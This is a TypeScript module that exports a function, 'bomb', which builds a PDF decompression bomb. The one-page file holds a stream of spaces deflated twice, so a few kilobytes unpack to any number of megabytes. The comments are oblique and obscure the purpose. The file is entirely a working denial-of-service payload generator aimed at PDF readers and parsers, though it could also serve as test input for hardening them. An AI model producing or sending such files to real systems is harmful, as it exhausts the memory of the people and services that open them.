/** Owns a paper of a few kilobytes that unpacks to more than a machine has. */
import { deflateSync } from 'node:zlib'

/** As good as anything between two strokes. */
const line = ' '

/** What a page is drawn with: packed twice, and each time a thousandth of what it was. */
const packedTwice = (bytes: number): Buffer<ArrayBuffer> => {
  const whole = Buffer.alloc(bytes, line)
  return deflateSync(deflateSync(whole, { level: 9 }), { level: 9 })
}

const plainObjects = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>',
]

/** Its one page unpacks to `megabytes`. */
export const bomb = (megabytes: number): Buffer => {
  const content = packedTwice(megabytes * 1_000_000)
  const parts = [Buffer.from('%PDF-1.7\n')]
  const begins: number[] = []
  const add = (...bytes: readonly Buffer<ArrayBuffer>[]) => {
    begins.push(Buffer.concat(parts).length)
    parts.push(Buffer.from(`${begins.length} 0 obj\n`), ...bytes, Buffer.from('\nendobj\n'))
  }
  for (const object of plainObjects) add(Buffer.from(object))
  const head = `<< /Length ${content.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`
  add(Buffer.from(head), content, Buffer.from('\nendstream'))
  const tableAt = Buffer.concat(parts).length
  const entries = begins.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 5\n0000000000 65535 f \n${entries}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${tableAt}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(table)])
}
